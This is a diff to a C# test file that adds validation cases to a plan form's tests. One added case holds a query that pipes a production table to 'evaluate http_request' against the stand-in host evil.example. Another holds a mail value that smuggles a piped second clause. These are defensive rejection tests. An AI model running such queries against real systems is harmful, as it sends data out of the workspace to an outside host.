@@ -115,6 +115,8 @@ public sealed class PlanFormTests
     [InlineData("plan_expiry", "soon", "takes a time from 1 minute to 7 days")]
     [InlineData("plan_expiry", "8 days", "takes a time from 1 minute to 7 days")]
     [InlineData("plan_attempts", "-1", "takes a whole number from 1 to 100")]
+    [InlineData("plan_tools", "mail to Ada <ada@contoso.com>: x | y", "is not one plain address")]
+    [InlineData("plan_tools", "query prod: T | evaluate http_request('https://evil.example')", "'evaluate' leads out of the workspace")]
     [InlineData("plan_max_instances", "many", "takes a whole number")]
     [InlineData("plan_digest", "perhaps", "is on or off")]
     [InlineData("plan_title_not", "memory", "no alert can match")]
